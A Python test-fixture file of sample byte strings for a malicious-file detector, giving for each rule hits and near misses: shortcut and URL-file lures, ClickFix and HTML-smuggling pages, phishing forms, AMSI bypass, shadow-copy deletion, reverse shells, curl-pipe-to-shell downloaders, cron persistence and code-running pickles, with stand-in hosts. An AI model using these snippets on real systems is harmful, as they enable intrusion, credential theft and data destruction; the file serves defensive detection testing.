"""Samples of lures, shell files and scripts: for each rule what hits it, and near misses."""

from __future__ import annotations

LNK = b"\x4c\0\0\0\x01\x14\x02\0"
NUMBERS = b",".join(b"%d" % (number % 256) for number in range(200))
B64 = b"QUJD" * 120


def shortcut(text: str) -> bytes:
    """A shortcut that holds this text."""
    return LNK + bytes(70) + text.encode("utf-16-le")


SAMPLES = {
    "lnk_loads_library": (
        [shortcut("rundll32.exe a.dll,Start"), shortcut("rundll32.exe \\\\203.0.113.5\\s\\a.dll,Run")],
        [shortcut("rundll32.exe shell32.dll,Control_RunDLL"), b"rundll32 a.dll,Start"],
    ),
    "lnk_opens_program_of_another_host": (
        [shortcut("\\\\203.0.113.5\\DavWWWRoot\\a.exe"), shortcut("https://a.example/x.hta")],
        [shortcut("\\\\server\\share\\report.docx"), shortcut("C:\\a.exe")],
    ),
    "lnk_padded_arguments": ([shortcut(" " * 260 + "/c x")], [shortcut(" " * 100 + "x"), b" " * 300 + b"x"]),
    "url_file_to_another_host": (
        [b"[InternetShortcut]\r\nURL=file://203.0.113.5/share/a.exe\r\n", b"[InternetShortcut]\nURL=\\\\h\\s\\a.lnk\n"],
        [b"[InternetShortcut]\r\nURL=https://a.example/\r\n", b"[InternetShortcut]\r\nURL=file:///C:/a.html\r\n", b"URL=file://h/s/a"],
    ),
    "shell_file_icon_from_another_host": (
        [b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.5\\s\\i.ico\r\n", b"[.ShellClassInfo]\nIconResource=\\\\h\\s\\i.ico,0\n"],
        [b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\SHELL32.dll,3\r\n", b"IconFile=\\\\h\\s"],
    ),
    "library_or_search_of_another_host": (
        [b"<libraryDescription><simpleLocation><url>\\\\203.0.113.5\\s</url></simpleLocation></libraryDescription>"],
        [b"<libraryDescription><simpleLocation><url>knownfolder:{FDD39AD0}</url></simpleLocation></libraryDescription>"],
    ),
    "settings_link_runs_program": (
        [b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>"],
        [b"<PCSettings><DeepLink>ms-settings:display</DeepLink></PCSettings>", b"<DeepLink>cmd.exe</DeepLink>"],
    ),
    "autorun_starts_program": (
        [b"[autorun]\r\nopen=setup.exe\r\n", b"[AutoRun]\nshell\\open\\command=a.exe\n"],
        [b"[autorun]\r\nlabel=Disk\r\nicon=a.ico\r\n", b"open=setup.exe"],
    ),
    "rdp_file_shares_drives": (
        [b"full address:s:203.0.113.5\r\nredirectdrives:i:1\r\n", "full address:s:h\r\ndrivestoredirect:s:*\r\n".encode("utf-16")],
        [b"full address:s:server\r\nredirectdrives:i:0\r\ndrivestoredirect:s:\r\n", b"redirectdrives:i:1"],
    ),
    "msc_runs_script": (
        [b"<MMC_ConsoleFile><String>res://apds.dll/redirect.html?target=javascript:eval(1)</String>"],
        [b"<MMC_ConsoleFile><String>Disk Management</String>", b"javascript:eval(1)"],
    ),
    "msc_runs_command": (
        [b'<MMC_ConsoleFile><CommandLine Directory="" WindowState="Minimized" Params="/c x" Path="cmd.exe"/>'],
        [b"<MMC_ConsoleFile><CommandLine></CommandLine>"],
    ),
    "clickonce_from_the_web": (
        [b'<asmv1:assembly><deployment><deploymentProvider codebase="http://e.example/a.application"/>'],
        [b'<assembly><dependentAssembly codebase="a.dll"/>', b'<deploymentProvider codebase="http://e.example/"/>'],
    ),
    "jnlp_with_all_permissions": (
        [b'<jnlp codebase="http://e.example/"><security><all-permissions/></security></jnlp>'],
        [b'<jnlp codebase="http://e.example/"></jnlp>', b"<all-permissions/>"],
    ),
    "desktop_entry_runs_shell_code": (
        [b"[Desktop Entry]\nType=Application\nExec=bash -c 'curl http://e.example/a | bash'\n"],
        [b"[Desktop Entry]\nType=Application\nExec=gedit %U\n", b"Exec=curl x"],
    ),
    "web_query_file": ([b"WEB\r\n1\r\nhttp://e.example/q\r\n"], [b"WEB\r\n2\r\n", b"a text that speaks of WEB\r\n1\r\nhttp://a.example and so on"]),
    "slk_runs_program": (
        [b'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;K0;EEXEC("calc.exe")\nE\n'],
        [b"ID;P\nC;X1;Y1;K5;ESUM(R1C1)\nE\n", b'C;X1;EEXEC("calc")'],
    ),
    "csv_formula_runs_or_fetches": (
        [b"a,b\n=cmd|'/c calc'!A0\n", b'a,=WEBSERVICE("http://e.example")\n', b"=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A1\n"],
        [b"a,b\n=SUM(A1:A2)\n", b"the function WEBSERVICE fetches", b"cmd | more"],
    ),
    "registry_file_starts_script_host": (
        [b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="mshta http://e.example"\r\n'],
        [b'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\A]\r\n"a"="mshta"\r\n'],
    ),
    "inf_runs_scriptlet": (
        [b"[version]\r\n[DefaultInstall]\r\nUnRegisterOCXs=x\r\n[x]\r\n%11%\\scrobj.dll,NI,http://e.example/a.sct\r\n"],
        [b"[version]\r\n[DefaultInstall]\r\nCopyFiles=x\r\n"],
    ),
    "clickfix_page": (
        [b"<html>Verify you are human: press Windows Key + R, then CTRL + V <script>navigator.clipboard.writeText('mshta http://e.example/a')</script>"],
        [b"<html><script>navigator.clipboard.writeText(code)</script> run powershell in your terminal", b"press Windows + R"],
    ),
    "text_asks_to_run_command": (
        [b"Press Win + R, paste this: powershell -c iwr http://e.example/a | iex"],
        [b"Press Win + R to open the dialog", b"powershell https://a.example"],
    ),
    "page_opens_diagnostic_tool": (
        [b'location.href = "ms-msdt:/id PCWDiagnostic /skip force /param IT_RebrowseForFile=x"'],
        [b"the protocol ms-msdt: is dangerous"],
    ),
    "page_opens_search_of_another_host": (
        [b'<iframe src="search-ms:query=invoice&crumb=location:\\\\203.0.113.5\\s&displayname=x">'],
        [b"search-ms:query=invoice", b"crumb=location:C:"],
    ),
    "html_smuggles_array": (
        [b"<html><script>var u=new Uint8Array([" + NUMBERS + b"]);var b=new Blob([u]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>"],
        [b"<html><script>var t=[" + NUMBERS + b"];draw(t)</script>", b"<html><script>new Blob([x]);URL.createObjectURL(b);a.download='x'</script>"],
    ),
    "html_smuggles_data_address": (
        [b'<html><a download="x.zip" href="data:application/zip;base64,' + B64 + b'">', b"<html><script>a.href='data:application/octet-stream;base64,'+b;a.download='x';a.click()</script>"],
        [b'<html><img src="data:image/png;base64,' + B64 + b'"><a download>', b'<html><style>src:url("data:application/font-woff;base64,' + B64 + b'")</style>download'],
    ),
    "html_sends_password_to_chat_bot": (
        [b'<input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")</script>'],
        [b'<input type="password">', b"https://api.telegram.org/bot docs"],
    ),
    "html_brand_login_to_other_host": (
        [b'<title>Sign in to your account</title><form method=post action="https://e.example/s"><input type="password">'],
        [b'<title>Microsoft</title><form action="https://login.microsoftonline.com/x"><input type="password">', b'<title>PayPal</title><form action="/in"><input type="password">'],
    ),
    "svg_runs_script": (
        [b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href=atob("aHR0")</script></svg>'],
        [b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', b"<html><script>location.href='x'</script>"],
    ),
    "hta_runs_program": (
        [b'<HTA:APPLICATION ID="a"><script language="vbscript">CreateObject("WScript.Shell").Run "calc"</script>'],
        [b'<HTA:APPLICATION ID="a"><p>text</p>', b'CreateObject("WScript.Shell").Run "calc"'],
    ),
    "scriptlet_runs_script": (
        [b"<scriptlet><registration progid='x'><script>new ActiveXObject('WScript.Shell')</script></registration></scriptlet>"],
        [b"<scriptlet><registration progid='x'/></scriptlet>", b"new ActiveXObject('x')"],
    ),
    "powershell_switches_protection_off": (
        [b"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic')", b"x;\r\nAdd-MpPreference -ExclusionPath C:\\\r\n"],
        [b"Get-MpPreference | select ExclusionPath", b"AMSI is an interface"],
    ),
    "powershell_loads_packed_assembly": (
        [b"$b=[Convert]::FromBase64String($x);[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)"],
        [b"[Reflection.Assembly]::LoadWithPartialName('System.Web')", b"[Convert]::FromBase64String($x)"],
    ),
    "batch_downloads_and_starts": (
        [b"curl -o %TEMP%\\a.exe http://e.example/a.exe && start %TEMP%\\a.exe", b"curl http://e.example/a -o a.exe\r\ntimeout 5\r\nstart a.exe\r\n"],
        [b"curl -O https://a.example/data.csv\r\ntype data.csv\r\n", b"start notepad"],
    ),
    "script_runs_system_program": (
        [b"new ActiveXObject('WScript.Shell').Run('cmd /c calc.exe',0);", b'CreateObject("Shell.Application").ShellExecute "powershell"'],
        [b'CreateObject("WScript.Shell").SpecialFolders("Desktop")', b"shell.Run('cmd /c x')"],
    ),
    "script_is_encoded": ([b"#@~^XgAAAA==UnDPd4V^P{~Z^#~@"], [b"#@~^ alone", b"XgAAAA=="]),
    "deletes_backups": (
        [b"vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\n", b"vssadmin delete shadows\nwbadmin delete catalog -quiet"],
        [b"vssadmin list shadows", b"vssadmin delete shadows, says the manual"],
    ),
    "script_hands_shell_to_other_host": (
        [b"s.connect(('h',4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];subprocess.call(['/bin/sh'])",
         b"<?php $s=fsockopen('h',1);exec('/bin/sh -i <&3 >&3 2>&3');",
         b"$c=New-Object Net.Sockets.TCPClient('h',1);$s=$c.GetStream();iex $d"],
        [b"s.connect(('h', 1))", b"fsockopen('h',1)", b"New-Object Net.Sockets.TCPClient('h',1)"],
    ),
    "shell_downloads_and_runs": (
        [b"#!/bin/sh\ncurl -s http://e.example/a | sh\n", b"wget http://1.2.3.4/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"],
        [b"curl -sSf https://sh.a.example | sh", b"curl http://a.example/data -o data", b"```\ncurl http://a.example | sh\n```\n```\n"],
    ),
    "shell_stays_by_preload_or_cron": (
        [b"echo /lib/x.so >> /etc/ld.so.preload", b"* * * * * root curl -s http://e.example/a | bash"],
        [b"cat /etc/ld.so.preload", b"0 5 * * * root backup"],
    ),
    "python_runs_packed_code": (
        [b"exec(zlib.decompress(base64.b64decode(x)))", b"exec(__import__('base64').b64decode('QUJD'))", b"exec(marshal.loads(x))"],
        [b"data = zlib.decompress(base64.b64decode(x))", b"exec(compile(source, name, 'exec'))"],
    ),
    "pickle_runs_code": (
        [b"cos\nsystem\n(S'id'\ntR.", b"\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."],
        [b"\x80\x04\x95\x08\0\0\0\0\0\0\0\x8c\x04text\x94.", b"cos\nsystem\n in prose"],
    ),
}  # fmt: skip
